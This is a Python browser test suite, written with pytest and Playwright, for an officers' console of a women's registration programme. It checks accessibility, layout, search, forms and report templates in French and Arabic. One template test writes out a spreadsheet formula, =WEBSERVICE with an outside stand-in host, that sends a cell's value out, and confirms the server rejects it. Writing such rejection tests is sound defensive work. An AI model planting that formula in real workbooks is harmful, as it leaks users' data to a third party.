"""The officers' pages in a real browser: no serious accessibility fault, no page wider than its screen, no script error."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from axe_playwright_python.sync_playwright import Axe
from openpyxl import load_workbook
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from tests.builders import registration, visit
from tests.exports.templates import name as name_cells
from tests.exports.templates import report_template
from tests.live import LiveServer, free_port

PASSWORD = "a long enough password"
SIZES = {"phone": {"width": 360, "height": 740}, "desk": {"width": 1280, "height": 800}}
NOTEBOOK = """
| survey   |         |        |        |                    |
|          | type    | name   | label  | default            |
|          | text    | lieu   | Lieu   | ${last-saved#lieu} |
|          | integer | nombre | Nombre |                    |
| settings |            |         |
|          | form_title | form_id | version |
|          | Carnet     | carnet  | 1       |
"""
LONG = "Benabdelkrim-" * 12


@dataclass
class Console:
    """A served programme with two women, one of them disputed."""

    server: LiveServer
    woman: str
    other: str
    instance: str

    def pages(self) -> dict[str, str]:
        return {
            "home": "/",
            "women": "/women",
            "nobody": "/women?q=nobody",
            "woman": f"/women/{self.woman}",
            "find twin": f"/women/{self.woman}/merge",
            "compare": f"/women/{self.woman}/merge/{self.other}",
            "delete": f"/women/{self.woman}/delete",
            "erase": f"/women/{self.woman}/erase",
            "submissions": "/submissions",
            "submission": f"/submissions/{self.instance}",
            "quality": "/quality",
            "fill": "/fill",
            "fill about": f"/fill?woman={self.woman}",
            "fill whom": "/fill/cam_e_visite",
            "conflicts": "/conflicts",
            "conflict": f"/conflicts/{self.woman}",
            "settled": f"/conflicts/{self.other}",
            "quarantine": "/quarantine",
            "agents": "/agents",
            "new link": "/agents/2/code",
            "revoke": "/agents/2/revoke",
            "agent": "/agents/2",
            "people": "/people",
            "person": "/people/1",
            "associations": "/associations",
            "audit": "/audit",
            "project": "/project",
            "forms": "/forms",
            "code book": "/forms/cam_e_visite/codebook",
            "workbook": "/workbook",
            "programme": "/programme",
            "duplicates": "/duplicates",
            "law": "/legal",
            "breaches": "/breaches",
            "notice": "/notice",
            "hand-over": "/handover",
            "service": "/service",
            "certificates": "/certificates",
            "lists": "/lists",
            "templates": "/templates",
            "account": "/account",
            "card": f"/women/{self.woman}/card",
            "cards": "/cards",
            "unknown": "/nowhere",
        }


def send(server: LiveServer, token: str, method: str, path: str, body: bytes, headers: dict[str, str]) -> Any:
    request = urllib.request.Request(  # noqa: S310 - our own server
        path if path.startswith("http") else f"{server.url}{path}",
        body,
        {"Authorization": f"Bearer {token}", **headers},
        method=method,
    )
    with urllib.request.urlopen(request) as answer:  # noqa: S310
        return answer.headers, answer.read()


def push(server: LiveServer, token: str, *items: dict[str, Any]) -> None:
    body = {"protocol": 1, "deviceId": str(uuid4()), "sentAt": "2026-11-23T17:00:00.000Z", "submissions": items}
    headers = {"Content-Type": "application/json"}
    send(server, token, "POST", "/v1/projects/1/sync/push", json.dumps(body).encode(), headers)


def upload(server: LiveServer, token: str, data: bytes) -> None:
    tus = {"Tus-Resumable": "1.0.0"}
    pairs = {"sha256": hashlib.sha256(data).hexdigest(), "contentType": "image/jpeg"}
    metadata = ",".join(f"{name} {base64.b64encode(value.encode()).decode()}" for name, value in pairs.items())
    asked = {**tus, "Upload-Length": str(len(data)), "Upload-Metadata": metadata}
    headers, _ = send(server, token, "POST", "/v1/projects/1/attachments", b"", asked)
    piece = {**tus, "Upload-Offset": "0", "Content-Type": "application/offset+octet-stream"}
    send(server, token, "PATCH", headers["Location"], data, piece)


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    server = LiveServer(tmp_path_factory.mktemp("console") / "data", free_port())
    server.command("init")
    server.command("create-user", "admin@example.dz", "--role", "administrator", "--password", PASSWORD)
    notebook = tmp_path_factory.mktemp("forms") / "carnet.md"
    notebook.write_text(NOTEBOOK)
    server.command("publish-form", str(notebook))
    tokens = [server.command("create-app-user", name, "--scope", "3112")["token"] for name in ("Amina", "خديجة")]
    server.start()
    picture = io.BytesIO()
    Image.new("RGB", (320, 240), "#2f5d50").save(picture, "JPEG")
    data = picture.getvalue()
    attachment = {
        "name": "p.jpg",
        "sha256": hashlib.sha256(data).hexdigest(),
        "size": len(data),
        "contentType": "image/jpeg",
    }
    first, instance, woman = registration(photo="p.jpg", nom_fr=LONG, localite=f"{LONG} شارع")
    second, second_id, other = registration(nom_ar="مداح", prenom_ar="زهرة", nom_fr="Meddah", prenom_fr="Zohra")
    push(
        server,
        tokens[0],
        {"instanceId": instance, "xml": first, "attachments": [attachment]},
        {"instanceId": second_id, "xml": second},
        {"instanceId": "uuid:bad", "xml": "no form"},
    )
    upload(server, tokens[0], data)
    for token, trade, name in ((tokens[0], "patisserie", "Fatma"), (tokens[1], "couture_trad", "فتيحة")):
        xml, visited = visit(woman, base=1, trunk=1, branch=str(uuid4()), metier=trade, prenom_fr=name, photo="q.jpg")
        push(server, token, {"instanceId": visited, "xml": xml})
    for known in ("2026-11-20 09:00", ""):  # one whose day is past, and one of now, of a phone
        more = ["--agent", "2", "--words", f"{LONG} سُرق في السوق"] if not known else ["--known", known]
        server.command("breach", "--out", str(tmp_path_factory.mktemp("breach") / "avis.txt"), *more)
    try:
        yield Console(server, woman, other, instance)
    finally:
        server.stop()


def open_desk(browser: Browser, console: Console, language: str, size: str) -> tuple[Page, list[str]]:
    context = browser.new_context(viewport=SIZES[size], locale=f"{language}-DZ", timezone_id="Africa/Algiers")  # type: ignore[arg-type]
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.goto(f"{console.server.url}/sign-in")
    check(page, "sign-in")
    page.fill("input[name=email]", "admin@example.dz")
    page.fill("input[name=password]", PASSWORD)
    with page.expect_navigation():
        page.locator("main button[type=submit]").click()
    if page.locator("html").get_attribute("lang") != language:
        if page.locator("[data-menu]").is_visible():
            page.locator("[data-menu]").click()
        with page.expect_navigation():
            page.locator(f".languages [value={language}]").click()
    expect(page.locator("html")).to_have_attribute("lang", language)
    return page, errors


def check(page: Page, name: str) -> None:
    """Look for serious accessibility faults, for what is wider than the screen, and for a missing heading."""
    found = Axe().run(page)
    faults = [
        (fault["id"], fault["nodes"][0]["html"][:200])
        for fault in found.response["violations"]
        if fault["impact"] in ("serious", "critical")
    ]
    assert faults == [], name
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), f"{name} is too wide"
    assert page.locator("h1").count() == 1, name


@pytest.mark.parametrize(("language", "size"), [("fr", "phone"), ("ar", "phone"), ("ar", "desk")])
def test_every_page_is_accessible_and_fits(browser: Browser, console: Console, language: str, size: str) -> None:
    page, errors = open_desk(browser, console, language, size)
    expect(page.locator("html")).to_have_attribute("dir", "rtl" if language == "ar" else "ltr")
    for title, path in console.pages().items():
        page.goto(f"{console.server.url}{path}")
        page.evaluate("for (const closed of document.querySelectorAll('details')) closed.open = true")
        check(page, title)
    if size == "desk":  # the menu needs no scrolling
        assert page.evaluate("(side => side.scrollHeight <= side.clientHeight)(document.querySelector('.side'))")
    assert [error for error in errors if "404" not in error] == []
    page.context.close()


def test_search_answers_as_one_types(browser: Browser, console: Console) -> None:
    page, errors = open_desk(browser, console, "fr", "desk")
    page.goto(f"{console.server.url}/women")
    expect(page.locator("#results tbody tr")).to_have_count(2)
    page.locator("#q").press_sequentially("زهره")
    expect(page.locator("#results tbody tr")).to_have_count(1)
    expect(page.locator("#results")).to_contain_text("Zohra Meddah")
    expect(page).to_have_url(f"{console.server.url}/women?q=%D8%B2%D9%87%D8%B1%D9%87")
    page.reload()
    expect(page.locator("#results tbody tr")).to_have_count(1)
    assert errors == []
    page.context.close()


def test_associations_of_a_large_programme_are_found_as_one_types_and_those_picked_stay(browser: Browser, console: Console) -> None:
    page, errors = open_desk(browser, console, "fr", "phone")
    page.goto(f"{console.server.url}/associations")
    token = page.locator("[name=csrf_token]").first.input_value()
    for number in range(30):  # beside the 25 of the programme
        form = {"csrf_token": token, "name_fr": f"Dar {number}", "name_ar": "الياسمين" if number == 29 else f"دار {number}"}
        assert page.request.post(f"{console.server.url}/associations", form=form, headers={"Referer": page.url}).ok
    page.fill("#q", "yasmin")
    expect(page.locator("#results tbody tr")).to_have_count(1)
    page.goto(f"{console.server.url}/workbook")
    page.locator("summary", has_text="options").click()
    picks = page.locator("#association input")
    expect(picks).to_have_count(50)
    check(page, "workbook")
    picks.first.check()
    first = picks.first.input_value()
    page.locator("#association-words").press_sequentially("ياسمين")
    expect(picks).to_have_count(2)
    assert [pick.input_value() for pick in picks.all()] == [first, "asso_55"]
    picks.nth(1).check()
    page.locator("#association-words").fill("")
    expect(picks).to_have_count(51)
    assert [pick.input_value() for pick in page.locator("#association input:checked").all()] == [first, "asso_55"]
    page.goto(f"{console.server.url}/people")
    page.fill("#email", "asso@example.dz")
    page.locator("#new-association-words").fill("asso_55")
    page.locator("#new-association-words").press("Enter")  # asks, and sends nothing
    page.locator("#new-association").select_option("asso_55")
    page.locator("#new-role").select_option("association")
    page.get_by_role("button", name="Ajouter").click()
    expect(page.locator("#password")).to_be_visible()
    page.goto(f"{console.server.url}/fill/cam_c_examen/grid")
    page.locator("#f-association").select_option("asso_55")
    page.get_by_role("button", name="Afficher la grille").click()
    expect(page).to_have_url(re.compile("association=asso_55"))
    check(page, "grid of an association")
    assert errors == []
    page.context.close()


def test_menu_opens_on_a_small_screen_and_by_the_keyboard(browser: Browser, console: Console) -> None:
    page, _ = open_desk(browser, console, "ar", "phone")
    expect(page.locator("nav a").first).to_be_hidden()
    page.keyboard.press("Tab")
    expect(page.locator(".skip")).to_be_focused()
    page.locator("[data-menu]").focus()
    page.keyboard.press("Enter")
    expect(page.locator("[data-menu]")).to_have_attribute("aria-expanded", "true")
    page.locator("nav a[href='/conflicts']").click()
    expect(page.locator("h1")).to_be_visible()
    page.context.close()


def test_pages_work_without_script(browser: Browser, console: Console) -> None:
    context = browser.new_context(java_script_enabled=False, viewport=SIZES["phone"], locale="fr-DZ")  # type: ignore[arg-type]
    page = context.new_page()
    page.goto(f"{console.server.url}/women?q=meddah")
    page.fill("input[name=email]", "admin@example.dz")
    page.fill("input[name=password]", PASSWORD)
    page.locator("main button[type=submit]").click()
    expect(page.locator("tbody tr")).to_have_count(1)
    page.locator("nav a[href='/conflicts']").click()
    expect(page.locator("fieldset")).to_have_count(2)
    context.close()


def test_an_officer_fills_a_form_edits_it_and_compares(browser: Browser, console: Console) -> None:
    page, errors = open_desk(browser, console, "fr", "phone")
    page.goto(f"{console.server.url}/fill")
    page.get_by_role("link", name="Remplir Carnet").click()
    page.get_by_label("Lieu").fill("Kehaïlia")
    page.get_by_label("Nombre").fill("3")
    page.reload()  # what was typed is still there
    expect(page.get_by_label("Lieu")).to_have_value("Kehaïlia")
    page.get_by_role("button", name="Terminer").click()
    page.get_by_role("button", name="Enregistrer comme terminé").click()
    expect(page.get_by_role("status").first).to_contain_text("enregistré")
    page.get_by_role("link", name="Corriger les réponses").click()
    expect(page.get_by_label("Lieu")).to_have_value("Kehaïlia")
    page.get_by_label("Lieu").fill("Sidi Ghalem")
    page.get_by_role("button", name="Terminer").click()
    page.get_by_role("button", name="Enregistrer comme terminé").click()
    page.get_by_role("link", name="Comparer").click()
    expect(page.locator("tbody tr")).to_have_count(1)
    expect(page.locator("tbody")).to_contain_text("Kehaïlia")
    expect(page.locator("tbody")).to_contain_text("Sidi Ghalem")
    check(page, "changes")
    page.goto(f"{console.server.url}/fill")  # the next form remembers what it asks of the last one
    page.get_by_role("link", name="Remplir Carnet").click()
    expect(page.get_by_label("Lieu")).to_have_value("Sidi Ghalem")
    expect(page.get_by_label("Nombre")).to_have_value("")
    assert errors == []
    page.context.close()


@pytest.mark.parametrize(("language", "size"), [("fr", "desk"), ("ar", "phone")])
def test_an_officer_sends_a_template_and_gets_it_filled(
    browser: Browser, console: Console, tmp_path: Path, language: str, size: str
) -> None:
    for file, formula in ((f"rapport-{language}", "=1+1"), ("hostile", '=WEBSERVICE("http://elsewhere.example/"&B3)')):
        book = load_workbook(io.BytesIO(report_template()))
        name_cells(book, "HIRFA_I6", "Rapport!$C$3")
        book["Rapport"]["D1"] = formula
        book.save(tmp_path / f"{file}.xlsx")
    page, errors = open_desk(browser, console, language, size)
    page.goto(f"{console.server.url}/templates")
    page.set_input_files("#file", tmp_path / "hostile.xlsx")
    page.locator("form[enctype] button").click()
    expect(page.locator("main")).to_contain_text("WEBSERVICE")
    expect(page.locator("main")).not_to_contain_text(f"rapport-{language}")
    check(page, "refused template")
    page.fill("#name", "")
    page.set_input_files("#file", tmp_path / f"rapport-{language}.xlsx")
    page.locator("form[enctype] button").click()
    expect(page.locator("h1")).to_have_text(f"rapport-{language}")
    expect(page.locator("main")).to_contain_text("HIRFA_I06")  # what HIRFA_I6 may mean
    expect(page.locator("main")).to_contain_text("HIRFA_02_Par_commune")
    check(page, "template")
    page.locator("main a[href*='?template=']").click()
    expect(page.locator("#template option:checked")).to_have_text(f"rapport-{language}")
    chosen = page.locator("#template").input_value()
    filled = page.request.get(f"{console.server.url}/v1/projects/1/workbook.xlsx?template={chosen}&language={language}")
    sheet = load_workbook(io.BytesIO(filled.body()))["Rapport"]
    assert (sheet["B3"].value, sheet["A7"].value, sheet["B8"].value) == (2, "Code ONS", "بئر الجير" if language == "ar" else "Bir El Djir")
    assert [error for error in errors if "422" not in error] == []
    page.context.close()


def test_a_photo_is_shown(browser: Browser, console: Console) -> None:
    page, _ = open_desk(browser, console, "fr", "desk")
    page.goto(f"{console.server.url}/women/{console.woman}")
    picture = page.locator(".photo img")
    picture.scroll_into_view_if_needed()
    expect(picture).to_have_js_property("naturalWidth", 320)
    page.context.close()


def test_a_new_agent_gets_a_link_and_a_qr(browser: Browser, console: Console) -> None:
    page, errors = open_desk(browser, console, "fr", "phone")
    page.goto(f"{console.server.url}/agents")
    page.get_by_label("Nom").fill("Zohra")
    page.get_by_label("Tafraoui").check()
    page.get_by_role("button", name="Créer et montrer le lien").click()
    expect(page.locator("#link")).to_have_value(f"{console.server.url}/app/#/enrol/{code_of(page)}")
    expect(page.locator(".qr")).to_have_js_property("complete", True)
    check(page, "link")
    assert errors == []
    page.context.close()


def code_of(page: Page) -> str:
    return page.locator(".code").inner_text().replace("-", "")


def test_an_officer_settles_with_one_button(browser: Browser, console: Console) -> None:
    page, errors = open_desk(browser, console, "fr", "phone")
    page.goto(f"{console.server.url}/conflicts")
    page.get_by_label("Fatma").check()
    box = page.locator("[name='other:metier']")
    box.select_option("ameublement")  # choosing another value picks it
    expect(page.locator("[name='pick:metier'][value=other]")).to_be_checked()
    with page.expect_navigation():
        page.locator("main form .actions button[type=submit]").first.click()
    expect(page.locator(".notice.good")).to_be_visible()
    expect(page.locator(".empty")).to_be_visible()
    page.goto(f"{console.server.url}/women/{console.woman}")
    expect(page.locator("#values ~ *, .values").first).to_be_visible()
    expect(page.locator(".disputed")).to_have_count(0)
    expect(page.locator(".history li").first).to_contain_text("Tranché")
    assert errors == []
    page.context.close()
